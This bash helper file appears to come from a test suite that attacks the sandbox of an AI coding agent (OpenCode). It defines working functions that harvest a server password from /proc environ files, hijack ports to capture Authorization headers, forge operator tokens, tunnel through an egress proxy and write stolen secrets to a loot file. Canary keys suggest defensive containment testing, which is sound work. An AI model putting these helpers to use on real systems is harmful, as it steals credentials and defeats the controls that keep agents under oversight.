# shellcheck shell=bash
# shellcheck disable=SC2016,SC2034 # programs in single quotes have their own $; attacks use what is set here
# Before every attack. In the agent's image there are bash, perl, git, ssh, openssl, and OpenCode's own binary, which is a whole
# JavaScript runtime with sockets, TLS, SQLite and calls of C functions.
js() { BUN_BE_BUN=1 NODE_TLS_REJECT_UNAUTHORIZED=0 timeout 8 /opt/opencode-operator/opencode/opencode -e "$1"; }
# HOST PORT: sends its input, shows the answer.
raw() { timeout 5 perl -MIO::Socket::INET -e 'my $s = IO::Socket::INET->new(PeerAddr => $ARGV[0], PeerPort => $ARGV[1], Timeout => 3) or die "no connection: $!\n";
  local $/; print $s scalar <STDIN>; $s->flush; while (sysread($s, my $b, 4096)) { print $b }' "$1" "$2"; }
# LINE HEADERS BODY: a request to the credential proxy; headers with \r\n each.
proxy() { local body=$3; printf '%s HTTP/1.1\r\n%bContent-Type: application/json\r\nContent-Length: %d\r\nConnection: close\r\n\r\n%s' "$1" "$2" "${#body}" "$body" | raw 127.0.0.1 3004; }
# HOST:PORT TEXT: sends it through a tunnel of the egress proxy, its lines ended by CR LF, shows what came back.
tunnel() { printf 'CONNECT %s HTTP/1.1\r\nHost: %s\r\n\r\n' "$1" "$1" | TEXT=$2 timeout 6 perl -MIO::Socket::INET -e 'my $s = IO::Socket::INET->new(PeerAddr => "127.0.0.1:3005", Timeout => 3) or die "no connection: $!\n"; local $/;
  print $s scalar <STDIN>; $s->flush; sysread $s, my $b, 4096; print $b; $b =~ m{^HTTP/1.1 2} or exit; (my $t = $ENV{TEXT}) =~ s/\n/\r\n/g; print $s "$t\r\n"; $s->flush; shutdown($s, 1) if $t !~ /HTTP/; while (sysread($s, my $b, 4096)) { print $b }'; }
own='Host: 127.0.0.1:3004\r\n'
chat='POST /chat/v1/chat/completions'
messages='POST /messages/v1/messages'
# TEXT: the body of a call of the careless provider, which does what stands after DO: in it.
says() { printf '{"model":"small","max_tokens":9,"messages":[{"role":"user","content":"%s %s"}]}' "$1" "$NONCE"; }
call() { printf '{"model":"c128k","messages":[{"role":"user","content":"%s"}]}' "$NONCE"; }
# METHOD PATH TOKEN BODY [HOST]: a request to the sidecar's API.
api() { printf '%s %s HTTP/1.1\r\nHost: %s:3003\r\n%bContent-Type: application/json\r\nContent-Length: %d\r\nConnection: close\r\n\r\n%s' \
  "$1" "$2" "${5:-127.0.0.1}" "${3:+Authorization: Bearer $3\r\n}" "${#4}" "$4" | raw "${5:-127.0.0.1}" 3003; }
# METHOD PATH PASSWORD BODY: a request to OpenCode.
opencode() { printf '%s %s HTTP/1.1\r\nHost: 127.0.0.1:4096\r\nAuthorization: Basic %s\r\nContent-Type: application/json\r\nContent-Length: %d\r\nConnection: close\r\n\r\n%s' \
  "$1" "$2" "$(printf 'opencode:%s' "$3" | base64 -w0)" "${#4}" "$4" | raw 127.0.0.1 4096; }
# OpenCode's password, as far as this process can find it.
password() { local p=$OPENCODE_SERVER_PASSWORD; [ -n "$p" ] || p=$(cat /proc/[0-9]*/environ 2>/dev/null | tr '\0' '\n' | sed -n 's/^OPENCODE_SERVER_PASSWORD=//p' | head -n 1); printf %s "$p"; }
# Numbers of processes with this name.
named() { local f; for f in /proc/[0-9]*/comm; do [ "$(cat "$f" 2>/dev/null)" = "$1" ] && f=${f%/comm} && echo "${f#/proc/}"; done; }
keys() { grep -a -o 'sk-canary-[0-9a-f]*' | sort -u; }
b64() { base64 -w0 | tr '+/' '-_' | tr -d '='; }
# What a token of the operator would say.
claims() { local now; now=$(date +%s); printf '{"iss":"operator","sub":"me","aud":"%s","iat":%d,"exp":%d,"scopes":["sessions:read","sessions:write","summary:read"]}' "$OBJECT_UID" "$now" $((now + 50)) | b64; }
# PORT HOST: takes the port, beside the sidecar if that is possible, and answers there from when the test says so until it says stop.
impostor() { rm -f "go-$NAME" "stop-$NAME" "bound-$NAME"; setsid timeout 60 perl -MSocket -e 'my ($p, $h) = @ARGV; my $n = $ENV{NAME}; $| = 1; socket(L, AF_INET, SOCK_STREAM, 6) or die; setsockopt(L, SOL_SOCKET, SO_REUSEADDR, 1);
  setsockopt(L, SOL_SOCKET, 15, 1); bind(L, sockaddr_in($p, inet_aton($h))) or do { print "bind: $!\n"; exit }; print "BOUND\n"; until (-e "go-$n") { select undef, undef, undef, 0.02 } listen(L, 9) or die;
  alarm 20; $SIG{ALRM} = sub { exit }; until (-e "stop-$n") { my $r = ""; vec($r, fileno(L), 1) = 1; select($r, undef, undef, 0.02) > 0 or next; accept(my $c, L) or next; sysread $c, my $q, 4096; my ($a) = $q =~ /(authorization: [^\r]*)/i; my $t = "$ENV{NONCE} $a";
  syswrite $c, "HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\nConnection: close\r\nContent-Length: " . length($t) . "\r\n\r\n$t"; close $c }' "$1" "$2" >"bound-$NAME" 2>&1 </dev/null &
  for _ in {1..100}; do [ -s "bound-$NAME" ] && break; sleep 0.05; done; cat "bound-$NAME"; }
# PORT: tries until the port is free, then answers there and notes what it heard: up to a credential, or for some seconds.
waiting() { rm -f "bound-$1"; setsid timeout 60 perl -MSocket -e 'my $p = $ARGV[0]; my $end = time + 50; for (;;) { socket(L, AF_INET, SOCK_STREAM, 6) or die; setsockopt(L, SOL_SOCKET, SO_REUSEADDR, 1);
  last if bind(L, sockaddr_in($p, INADDR_ANY)) && listen(L, 64); close L; exit if time > $end; select undef, undef, undef, 0.002 }
  open O, ">>", "bound-$p"; O->autoflush; print O "BOUND $p\n"; $SIG{ALRM} = sub { exit }; alarm 8; while (accept(my $c, L)) { sysread $c, my $r, 4096; print O $r; my ($a) = $r =~ /(authorization: [^\r]*)/i; my $t = "$ENV{NONCE} $a";
  syswrite $c, "HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\nConnection: close\r\nContent-Length: " . length($t) . "\r\n\r\n$t"; close $c; exit if $a }' "$1" >"waiting-$1" 2>&1 </dev/null & sleep 0.2; cat "waiting-$1"; }
# FILE: a payload that shows, in FILE, OpenCode's password: it is run by OpenCode, not by a tool.
payload() { printf '{ env; tr "\\0" "\\n" </proc/$PPID/environ; } 2>/dev/null | grep -a "^OPENCODE_SERVER_PASSWORD=." | head -n 1 >>/workspace/loot-%s' "$NAME"; }
